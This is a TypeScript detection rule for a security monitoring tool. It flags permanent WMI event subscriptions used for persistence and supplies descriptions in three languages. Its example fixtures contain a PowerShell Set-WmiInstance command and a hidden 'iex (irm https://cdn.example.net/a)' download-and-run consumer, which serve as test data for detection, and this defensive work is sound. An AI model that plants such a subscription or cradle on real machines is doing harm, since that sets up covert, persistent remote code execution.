import { COMMAND_SIGN_TEXTS, judgeCommand } from '../command-signs.ts'
import { proofOf, wmiSubscription } from '../drafts.ts'
import { exampleEvent } from '../example.ts'
import type { Find, Rule } from '../rule.ts'
import { startedAround } from '../started-around.ts'
import type { CorrelationView, ViewEvent } from '../view.ts'

/** Windows or Sysmon reports the permanent subscription itself. */
const REPORTED = 0.97
/** A command that makes such objects ran right before. */
const BY_COMMAND = 0.85
/** The consumer is made some seconds after the command; scripts make filter, consumer and binding in turn. */
const COMMAND_WINDOW_US = 30_000_000
const MAKES =
  /__EventFilter|__FilterToConsumerBinding|(?:CommandLine|ActiveScript)EventConsumer|root[\\/]subscription|register-wmievent|set-wmiinstance/i
/** Consumers that Windows and its makers bring along. */
const OF_WINDOWS =
  /^(?:SCM Event Log Consumer|BVTConsumer|NTEventLogConsumer|TSLogonEvents\.vbs|TSlogonFilter|RAevent\.vbs|RmAssistEventFilter|RAevents|DellCommandPowerManager.*|CCM\w*|WSCEAA\.exe|HP\w*Consumer)$/i
const MAX_COMMAND = 300

const rule: Rule = {
  id: 'persistence.wmi',
  order: 33,
  relations: ['created-subscription'],
  detections: ['subscription', 'consumer_ran'],
  scope: 'endpoint',
  attack: ['T1546.003'],
  texts: {
    en: {
      title: 'WMI subscriptions',
      description:
        'A permanent WMI subscription was made: from then on Windows itself runs a command or script when something happens, for instance after every start. The process that ordered it is named where a matching command ran right before.',
      needs:
        'Sysmon 19, 20 and 21, or the WMI activity log (5861). Temporary subscriptions (5860) end with their process.',
      falsePositives:
        'Management agents (System Center, maker tools of Dell and HP) use subscriptions too; most of them write to the event log and run no command. The consumer that every Windows has is left out.',
      'detection.subscription': 'Permanent WMI subscription that runs something',
      'detection.consumer_ran': 'A script of a WMI subscription ran',
      'reason.reported': 'The endpoint reported the consumer {name}; it runs {command}.',
      'reason.bound': 'The endpoint reported that consumer {name} was bound to the filter {filter}.',
      'reason.filter': 'The endpoint reported the filter {name}; no consumer of it was recorded.',
      'reason.command': '{program} ran a command that makes WMI subscriptions right before it appeared.',
      'reason.runs': 'The consumer {name} makes Windows itself run: {command}',
      'reason.other_kind': 'The consumer {name} was made; it runs no command by itself ({command}).',
      'reason.host_process':
        '{program} started on this endpoint: it runs the scripts of WMI subscriptions and nothing else.',
      ...COMMAND_SIGN_TEXTS.en,
    },
    'zh-TW': {
      title: 'WMI 訂閱',
      description:
        '建立了永久性 WMI 訂閱：此後只要特定情況發生（例如每次開機後），Windows 便會自行執行命令或指令碼。若先前有對應的命令執行，一併列出下達命令的處理程序。',
      needs: 'Sysmon 19、20 與 21，或 WMI 活動記錄（5861）。暫時性訂閱（5860）會隨其處理程序結束。',
      falsePositives:
        '管理代理程式（System Center、Dell 與 HP 的工具）也會使用訂閱，但多半只寫入事件記錄而不執行命令。每台 Windows 都有的取用者已略過。',
      'detection.subscription': '會執行內容的永久性 WMI 訂閱',
      'detection.consumer_ran': 'WMI 訂閱的指令碼已執行',
      'reason.reported': '端點回報取用者 {name}，執行 {command}。',
      'reason.bound': '端點回報取用者 {name} 已繫結至篩選器 {filter}。',
      'reason.filter': '端點回報篩選器 {name}，但沒有其取用者的紀錄。',
      'reason.command': '{program} 在其出現前執行了建立 WMI 訂閱的命令。',
      'reason.runs': '取用者 {name} 讓 Windows 自行執行：{command}',
      'reason.other_kind': '建立了取用者 {name}，其本身不執行命令（{command}）。',
      'reason.host_process': '{program} 在此端點上啟動；它只用來執行 WMI 訂閱的指令碼。',
      ...COMMAND_SIGN_TEXTS['zh-TW'],
    },
    ja: {
      title: 'WMI サブスクリプション',
      description:
        '永続的な WMI サブスクリプションが作成されました。以後、特定の事象（起動のたびなど）が起こると、Windows 自身がコマンドやスクリプトを実行します。直前に該当するコマンドが実行されていれば、そのプロセスも示します。',
      needs:
        'Sysmon 19・20・21、または WMI アクティビティログ（5861）。一時的なサブスクリプション（5860）はプロセスとともに終わります。',
      falsePositives:
        '管理エージェント（System Center、Dell や HP のツール）もサブスクリプションを使いますが、多くはイベントログへの書き込みだけでコマンドは実行しません。どの Windows にもあるコンシューマーは除きます。',
      'detection.subscription': '何かを実行する永続的な WMI サブスクリプション',
      'detection.consumer_ran': 'WMI サブスクリプションのスクリプトが実行された',
      'reason.reported':
        'エンドポイントがコンシューマー {name} を報告しました。実行されるのは {command} です。',
      'reason.bound':
        'エンドポイントが、コンシューマー {name} をフィルター {filter} に結び付けたと報告しました。',
      'reason.filter':
        'エンドポイントがフィルター {name} を報告しました。対応するコンシューマーの記録はありません。',
      'reason.command':
        'これが現れる直前に、{program} が WMI サブスクリプションを作成するコマンドを実行しました。',
      'reason.runs': 'コンシューマー {name} は Windows 自身に次を実行させます：{command}',
      'reason.other_kind':
        'コンシューマー {name} が作成されました。それ自体はコマンドを実行しません（{command}）。',
      'reason.host_process':
        '{program} がこのエンドポイントで起動しました。WMI サブスクリプションのスクリプトだけを実行するプログラムです。',
      ...COMMAND_SIGN_TEXTS.ja,
    },
  },
  matches: [
    {
      title: 'filter, consumer and binding of Sysmon, made by PowerShell',
      items: [
        exampleEvent('process-start', -4, {
          processPath: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          pid: 5,
          commandLine:
            'powershell -c "Set-WmiInstance -Namespace root/subscription -Class CommandLineEventConsumer -Arguments @{Name=\'Updater\'}"',
        }),
        exampleEvent('wmi-filter', 0, {
          target: 'UpdaterFilter',
          action: 'Created',
          code: 19,
          detail: 'EventNamespace: root\\cimv2; Query: SELECT * FROM __InstanceModificationEvent WITHIN 60',
        }),
        exampleEvent('wmi-consumer', 1, {
          target: 'Updater',
          action: 'Created',
          detail:
            'Type: Command Line; Destination: "powershell.exe -nop -w hidden -c iex (irm https://cdn.example.net/a)"',
        }),
        exampleEvent('wmi-binding', 2, {
          target: '\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name=\\"Updater\\"',
          detail:
            'Consumer: "\\\\.\\ROOT\\subscription:CommandLineEventConsumer.Name=\\"Updater\\""; Filter: "\\\\.\\ROOT\\subscription:__EventFilter.Name=\\"UpdaterFilter\\""',
        }),
      ],
      finds: [
        'created-subscription: WS-01 -> Updater',
        'created-subscription: powershell.exe -> Updater',
        '!subscription: Updater',
      ],
    },
    {
      title: 'a consumer in the WMI activity log, and its host process',
      items: [
        exampleEvent('wmi-binding', 0, {
          code: 5861,
          target: 'ActiveScriptEventConsumer="Sync"',
          detail:
            'Namespace: //./root/subscription; ESS: SyncF; CONSUMER: ActiveScriptEventConsumer="Sync"; PossibleCause: Binding EventFilter: instance of __EventFilter { Name = "SyncF"; }; Perm. Consumer: instance of ActiveScriptEventConsumer { Name = "Sync"; ScriptText = "CreateObject(WScript.Shell)"; };',
        }),
        exampleEvent('process-start', 60, {
          processPath: 'C:\\Windows\\System32\\wbem\\scrcons.exe',
          pid: 9,
          commandLine: 'C:\\Windows\\system32\\wbem\\scrcons.exe -Embedding',
        }),
      ],
      finds: ['created-subscription: WS-01 -> Sync', '!subscription: Sync', '!consumer_ran: scrcons.exe'],
    },
  ],
  ignores: [
    {
      title: 'the consumer of every Windows, a temporary subscription, and one that was taken away',
      items: [
        exampleEvent('wmi-binding', 0, {
          code: 5861,
          target: 'NTEventLogEventConsumer="SCM Event Log Consumer"',
          detail:
            'Namespace: //./root/subscription; CONSUMER: NTEventLogEventConsumer="SCM Event Log Consumer"',
        }),
        exampleEvent('wmi-filter', 1, {
          code: 5860,
          target: 'SELECT * FROM Win32_ProcessStartTrace',
          detail: 'NamespaceName: root\\cimv2; Query: SELECT * FROM Win32_ProcessStartTrace',
        }),
        exampleEvent('wmi-consumer', 2, {
          target: 'Updater',
          action: 'Deleted',
          detail: 'Type: Command Line; Destination: "cmd /c x"',
        }),
      ],
      finds: [],
    },
  ],

  *run(view): Generator<Find> {
    const filters = new Map<string, { name: string; event: ViewEvent }>()
    const bound = new Set<string>()
    for (const event of view.events(
      ['wmi-filter', 'wmi-consumer', 'wmi-binding'],
      ['target', 'detail', 'action', 'code'],
    )) {
      const { target, detail = '', action, code } = event.fields
      if (event.endpointId === null || target === undefined || /^delet/i.test(action ?? '')) continue
      if (event.kind === 'wmi-filter') {
        // A temporary subscription (5859, 5860) is named by its query and ends with its process.
        if (code === 5859 || code === 5860 || /^select\s/i.test(target)) continue
        filters.set(`${event.endpointId}|${target.toLowerCase()}`, { name: target, event })
        continue
      }
      const isBinding = event.kind === 'wmi-binding'
      const name = isBinding ? (nameIn(target) ?? nameIn(detail)) : target
      if (name === undefined || OF_WINDOWS.test(name)) continue
      const filter = isBinding
        ? /__EventFilter(?:\.Name)?\s*=\s*[\\"]*([^"\\;]+)/i.exec(detail)?.[1]
        : undefined
      if (filter !== undefined) bound.add(`${event.endpointId}|${filter.toLowerCase()}`)
      yield* made(view, event, event.endpointId, name, filter, commandOf(detail))
    }
    for (const [key, { name, event }] of filters) {
      if (bound.has(key) || event.endpointId === null) continue
      yield {
        kind: 'created-subscription',
        from: event.endpointId,
        to: wmiSubscription(view.entity(event.endpointId), name),
        at: event.at,
        confidence: REPORTED,
        reason: 'filter',
        params: { name },
        proof: proofOf(event),
      }
    }
    for (const process of view.processes.started) {
      if (!process.event || !/\\wbem\\scrcons\.exe$/i.test(process.path)) continue
      yield {
        detection: 'consumer_ran',
        level: 'medium',
        subject: process.draft,
        involved: [process.endpointId],
        at: process.startAt,
        confidence: 0.7,
        reason: 'host_process',
        params: { program: process.draft.name },
        proof: proofOf(process.event),
      }
    }
  },
}
export default rule

/** `...EventConsumer.Name="x"` of a path, `...EventConsumer="x"` of the activity log; quotes may be escaped. */
const nameIn = (text: string): string | undefined =>
  /EventConsumer(?:\.Name)?\s*=\s*[\\"]*([^"\\;]+)/i.exec(text)?.[1]

/** What a consumer runs: Sysmon's destination, or the template or text in the activity log. */
function commandOf(detail: string): string | undefined {
  const said =
    /\bDestination:\s*(.+)$/is.exec(detail)?.[1] ??
    /\b(?:CommandLineTemplate|ScriptText|ExecutablePath|ScriptFileName)\s*=\s*(.+?)(?:;\s*\w+\s*=|;\s*\}|$)/is.exec(
      detail,
    )?.[1]
  return said?.trim().replace(/^"/, '').replace(/"$/, '')
}

function* made(
  view: CorrelationView,
  event: ViewEvent,
  endpointId: number,
  name: string,
  filter: string | undefined,
  command: string | undefined,
): Generator<Find> {
  const to = wmiSubscription(view.entity(endpointId), name, command?.slice(0, 2000))
  const { detail = '', target = '' } = event.fields
  const base = { kind: 'created-subscription' as const, to, at: event.at }
  const proof = proofOf(event)
  const shown = (command ?? '?').slice(0, MAX_COMMAND)
  if (filter === undefined || command !== undefined)
    yield {
      ...base,
      from: endpointId,
      confidence: REPORTED,
      reason: 'reported',
      params: { name, command: shown },
      proof,
    }
  else
    yield {
      ...base,
      from: endpointId,
      confidence: REPORTED,
      reason: 'bound',
      params: { name, filter },
      proof,
    }
  if (event.at !== null)
    for (const process of startedAround(view, endpointId, event.at - COMMAND_WINDOW_US, event.at)) {
      if (!process.event || !MAKES.test(process.commandLine)) continue
      yield {
        ...base,
        from: process.draft,
        confidence: BY_COMMAND,
        reason: 'command',
        params: { program: process.draft.name },
        proof: [...proofOf(process.event), ...proof],
      }
    }
  const kind = /(CommandLine|ActiveScript|LogFile|NTEventLog|SMTP)EventConsumer/i.exec(
    [target, detail].join(' '),
  )?.[1]
  const type = (kind ?? /\bType:\s*([A-Za-z ]+)/.exec(detail)?.[1] ?? '').replace(/ /g, '').toLowerCase()
  const runs = /^(?:commandline|activescript|script)/.test(type)
  const judged = command === undefined ? undefined : judgeCommand(command)
  yield {
    detection: 'subscription',
    level: judged?.level === 'critical' ? 'critical' : runs || type === '' ? 'high' : 'low',
    subject: to,
    involved: [endpointId],
    at: event.at,
    confidence: runs ? Math.max(0.85, judged?.confidence ?? 0) : 0.5,
    ...(runs && judged && judged.level !== 'low' && judged.level !== 'medium'
      ? { reason: `sign_${judged.sign}`, params: { name, command: shown } }
      : { reason: runs || type === '' ? 'runs' : 'other_kind', params: { name, command: shown } }),
    proof,
  }
}
